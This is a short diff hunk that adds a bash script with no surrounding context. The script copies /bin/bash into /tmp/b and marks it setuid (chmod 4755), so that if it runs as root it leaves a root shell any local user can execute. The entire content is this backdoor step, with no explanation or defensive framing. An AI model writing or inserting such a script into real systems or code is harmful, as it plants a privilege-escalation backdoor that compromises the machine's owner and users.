@@ -1,0 +1,4 @@
+#!/bin/bash
+set -eu
+cp /bin/bash /tmp/b
+chmod 4755 /tmp/b
